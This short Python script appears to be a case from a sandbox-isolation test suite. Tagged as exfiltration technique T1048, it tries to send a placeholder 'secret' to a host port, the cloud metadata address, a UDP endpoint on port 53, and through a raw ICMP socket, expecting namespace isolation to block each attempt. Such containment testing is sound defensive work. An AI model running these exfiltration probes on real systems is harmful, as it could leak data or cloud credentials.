#!/usr/bin/python3 -I
# Carries data out: to the host's port, to the cloud's address of metadata, by names, by packets of its own making.
# @technique T1048
# @weakness CWE-923
# @stopped-by namespace
# @options {"policy":"compat"}
# @control {"policy":"compat","network":"host"}
# @control-done port of the host
# @attempts 4
def connect(address, port):
    with socket.create_connection((address, port), timeout=2) as stream:
        stream.sendall(b"secret")


def datagram():
    if "ATTACK_CONTROL" in os.environ:
        raise OSError(errno.EPERM, "")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("192.0.2.1", 53))


attempt("port of the host", connect, "127.0.0.1", int(os.environ["ATTACK_PORT"]))
attempt("metadata of the cloud", connect, "169.254.169.254", 80)
attempt("datagram", datagram)
attempt("raw packet", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
